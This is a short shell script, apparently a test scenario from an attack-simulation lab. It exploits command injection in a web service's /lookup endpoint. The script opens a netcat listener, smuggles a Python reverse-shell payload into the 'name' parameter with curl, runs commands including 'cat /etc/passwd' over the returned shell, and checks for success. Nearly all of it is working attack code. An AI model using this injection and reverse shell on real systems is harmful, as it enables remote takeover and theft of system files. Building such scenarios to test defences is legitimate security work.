# Listener on the attacker's address: the commands it sends the shell.
printf 'id\nuname -a\nls -la /\ncat /etc/passwd\nps aux\nexit\n' |
  timeout 30 busybox nc -l -p 4444 > "$SCN_ATTACKER/revshell.out" &
listener=$!
# Poll the socket table until it listens (a probe connection would use up
# busybox nc's one accept).
for _ in $(seq 100); do [ -n "$(ss -Hltn 'sport = :4444')" ] && break; sleep 0.1; done
payload="x;python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"$SCN_PEER\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'"
curl -s -m 40 -G --data-urlencode "name=$payload" "http://$SCN_IP:8080/lookup" >/dev/null
wait $listener
grep -q 'uid=' "$SCN_ATTACKER/revshell.out"
